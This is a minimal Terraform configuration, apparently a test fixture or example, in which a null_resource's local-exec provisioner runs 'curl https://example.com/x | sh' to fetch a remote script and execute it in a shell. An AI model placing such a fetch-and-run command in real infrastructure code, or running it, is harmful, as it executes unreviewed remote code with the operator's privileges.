resource "null_resource" "n" {
  triggers = {
    v = "1"
  }
  provisioner "local-exec" {
    command = "curl https://example.com/x | sh"
  }
}
